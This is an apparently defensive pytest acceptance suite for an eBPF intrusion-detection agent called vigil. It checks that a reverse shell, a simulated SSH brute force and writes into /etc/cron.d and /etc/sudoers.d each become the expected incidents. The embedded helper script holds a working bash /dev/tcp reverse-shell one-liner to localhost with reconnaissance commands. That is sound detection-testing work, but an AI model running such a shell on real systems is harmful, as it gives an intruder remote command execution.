"""Issue 10 acceptance, live on the real kernel: one story is one incident.

- an interactive reverse shell to 127.0.0.1 (a shell with stdin/stdout/stderr on the
  socket, whose start-up file runs a few programs, then commands sent through the socket)
  prints exactly one incident-open line on `vigil run` stdout (plus at most one
  escalation), and `vigil incidents show` draws bash → bash -i → the programs it ran;
- a 20-attempt SSH brute force written to the followed auth log prints one open line and
  its count reaches 20;
- two unrelated sensitive writes 1 s apart by different process trees give two
  incidents and, on a file route with a 60 s batch window, two immediate messages.

The time from the reverse shell's connection to its open line on stdout is measured and
reported (not asserted: performance is a benchmark's business).

Needs root and a kernel that loads BPF (CI runs as root); skips only when those are absent.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from vigil.sensors.ebpf.sensor import unavailable_reason

REASON = unavailable_reason()
pytestmark = [pytest.mark.bpf, pytest.mark.skipif(REASON is not None, reason=REASON or "")]


class Agent:
    """`vigil run --json` as a separate process; its stdout is read as it is written."""

    def __init__(self, tmp: Path, config: str) -> None:
        self.tmp = tmp
        cfg = tmp / "vigil.toml"
        cfg.write_text(config)
        self.out = tmp / "run.out"
        self.err = tmp / "run.err"
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "vigil", "run", "--json", "-c", str(cfg),
             "--stats-interval", "3600"],
            stdout=open(self.out, "wb"), stderr=open(self.err, "wb"), cwd=tmp)
        deadline = time.monotonic() + 60
        while "vigil: watching" not in self.err.read_text(errors="replace"):
            if self.proc.poll() is not None or time.monotonic() > deadline:
                self.proc.kill()
                pytest.fail(f"vigil run did not start: {self.err.read_text()}")
            time.sleep(0.05)
        time.sleep(0.5)  # the sensor's first poll

    def events(self) -> list[dict]:
        return [json.loads(x) for x in self.out.read_text().splitlines() if x.startswith("{")]

    def wait_for(self, pred, timeout: float = 20.0) -> dict:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            for ev in self.events():
                if pred(ev):
                    return ev
            time.sleep(0.02)
        pytest.fail(f"no matching incident event; stdout:\n{self.out.read_text()[-3000:]}\n"
                    f"stderr:\n{self.err.read_text()[-2000:]}")

    def stop(self) -> None:
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            pytest.fail("agent did not stop on SIGTERM")


def _config(tmp: Path, extra: str = "", authlog: Path | None = None) -> str:
    auth = (f'[sensors.authlog]\nenabled = true\npaths = ["{authlog}"]\n' if authlog
            else "[sensors.authlog]\nenabled = false\n")
    return f'state_dir = "{tmp / "state"}"\n{auth}{extra}'


def _mentions(ev: dict, text: str) -> bool:
    return text in json.dumps(ev["incident"])


REVERSE_SHELL = r"""
import os, socket, subprocess, sys, time
home, port_file = sys.argv[1], sys.argv[2]
srv = socket.socket()
srv.bind(("127.0.0.1", 0))
srv.listen(1)
port = srv.getsockname()[1]
# `bash -i` reads ~/.bashrc: the programs there start under the reverse shell
p = subprocess.Popen(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
                     env={"HOME": home, "PATH": os.environ["PATH"], "TERM": "dumb",
                          "HISTFILE": "/dev/null"},
                     start_new_session=True)
conn, _ = srv.accept()
with open(port_file, "w") as f:
    f.write(f"{port} {time.time()}")
conn.settimeout(5)
time.sleep(0.5)
conn.sendall(b"id; whoami; cat /etc/hostname; exit\n")
try:
    while conn.recv(4096):
        pass
except socket.timeout:
    pass
p.wait(10)
"""


def test_interactive_reverse_shell_is_one_incident_with_its_story(tmp_path: Path,
                                                                 record_property) -> None:
    home = tmp_path / "home"
    home.mkdir()
    script = tmp_path / "reverse_shell.py"
    script.write_text(REVERSE_SHELL)
    # written by a separate session, so that the test itself is no part of any story
    subprocess.run(["sh", "-c", f"printf 'id >/dev/null\\nuname -a >/dev/null\\n"
                                f"ls / >/dev/null\\n' > {home}/.bashrc"],
                   check=True, start_new_session=True)
    agent = Agent(tmp_path, _config(tmp_path))
    port_file = tmp_path / "port"
    try:
        subprocess.run([sys.executable, str(script), str(home), str(port_file)],
                       check=True, timeout=60, start_new_session=True)
        port, connected = port_file.read_text().split()
        target = f"127.0.0.1/{port}"
        opened = agent.wait_for(lambda e: e["event"] == "opened" and _mentions(e, target))
        latency = time.time() - float(connected)
        time.sleep(1.0)
    finally:
        agent.stop()
        # gone before pytest's own clean-up would delete a .bashrc under a running agent
        shutil.rmtree(home, ignore_errors=True)
    record_property("reverse_shell_open_latency_s", round(latency, 3))
    print(f"reverse shell: incident open line {latency * 1000:.0f} ms after the connection")
    mine = [e for e in agent.events() if e["incident"]["id"] == opened["incident"]["id"]]
    others = [e for e in agent.events() if e["incident"]["id"] != opened["incident"]["id"]
              and _mentions(e, target)]
    kinds = [e["event"] for e in mine]
    assert kinds.count("opened") == 1 and kinds.count("escalated") <= 1, kinds
    assert not others, [e["incident"]["title"] for e in others]
    final = mine[-1]["incident"]
    assert final["priority"] == "Critical" and "reverse shell" in final["title"].lower()
    ran = {a["cmdline"] for a in final["activity"]}
    assert {"id", "uname -a", "ls /", "whoami", "cat /etc/hostname"} <= ran, ran

    shown = subprocess.run([sys.executable, "-m", "vigil", "incidents", "show",
                            final["id"][:8], "--trail", str(tmp_path / "state" / "audit")],
                           capture_output=True, text=True, timeout=60)
    assert shown.returncode == 0, shown.stderr
    text = shown.stdout
    lines = text.splitlines()
    # the tree: the launcher's bash, the `bash -i` on the socket, the programs under it
    shell = next(i for i, x in enumerate(lines) if "bash (pid" in x
                 and x.rstrip().endswith("bash -i"))
    depth = len(lines[shell]) - len(lines[shell].lstrip(" │├└─"))
    parent = next(x for x in reversed(lines[:shell]) if "bash (pid" in x)
    assert f"/dev/tcp/{target}" in parent
    below = lines[shell + 1:]
    assert any("socket" in x and port in x for x in below), text
    for prog in ("uname (pid", "whoami (pid", "cat (pid"):
        row = next(x for x in below if prog in x)
        assert len(row) - len(row.lstrip(" │├└─")) > depth, (prog, text)
    assert "Timeline" in text and "● Critical" in text


def _syslog_line(ts: float, pid: int, msg: str) -> str:
    stamp = time.strftime("%b %e %H:%M:%S", time.localtime(ts))
    return f"{stamp} {socket.gethostname()} sshd[{pid}]: {msg}\n"


def test_ssh_brute_force_of_20_attempts_is_one_incident(tmp_path: Path) -> None:
    log = tmp_path / "auth.log"
    log.write_text("")
    agent = Agent(tmp_path, _config(tmp_path, authlog=log))
    ip = "203.0.113.77"
    try:
        now = time.time()
        with open(log, "a") as f:
            for i in range(20):
                f.write(_syslog_line(now, 40000 + i, f"Failed password for root from {ip} "
                                                     f"port {50000 + i} ssh2"))
                f.flush()
        agent.wait_for(lambda e: _mentions(e, ip))
        time.sleep(2.0)  # the rest of the lines
    finally:
        agent.stop()
    mine = [e for e in agent.events() if _mentions(e, ip)]
    kinds = [e["event"] for e in mine]
    assert kinds.count("opened") == 1, kinds
    assert len({e["incident"]["id"] for e in mine}) == 1
    closing = mine[-1]
    assert closing["event"] == "closed" and closing["incident"]["closed_reason"] == "shutdown"
    assert closing["incident"]["detection_count"] == 20
    assert closing["incident"]["unit"] == "attempts"
    assert closing["incident"]["title"] == "SSH brute force"


def test_two_unrelated_sensitive_writes_are_two_incidents_and_two_messages(
        tmp_path: Path) -> None:
    sink = tmp_path / "alerts.jsonl"
    mark = f"vigil-e2e-{os.getpid()}"
    agent = Agent(tmp_path, _config(tmp_path, f"""
[alerts]
[alerts.sinks.file]
type = "file"
path = "{sink}"
[[alerts.routes]]
sink = "file"
min_priority = "warning"
batch_window_secs = 60
"""))
    paths = [Path(f"/etc/cron.d/{mark}"), Path(f"/etc/sudoers.d/{mark}")]
    try:
        for p in paths:
            # each write in its own session and process tree
            subprocess.run(["sh", "-c", f"echo '# {mark}' > {p}"], check=True,
                           start_new_session=True)
            time.sleep(1.0)
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            lines = sink.read_text().splitlines() if sink.exists() else []
            if sum(mark in x for x in lines) >= 2:
                break
            time.sleep(0.1)
    finally:
        for p in paths:
            p.unlink(missing_ok=True)
        agent.stop()
    docs = [json.loads(x) for x in sink.read_text().splitlines() if mark in x]
    assert [d["kind"] for d in docs[:2]] == ["incident", "incident"], docs
    assert len({d["incident"]["id"] for d in docs[:2]}) == 2
    files = [d["incident"]["entities"]["files"] for d in docs[:2]]
    assert sorted(f[0] for f in files) == sorted(str(p) for p in paths)
    opened = [e for e in agent.events() if e["event"] == "opened" and _mentions(e, mark)]
    assert len(opened) == 2
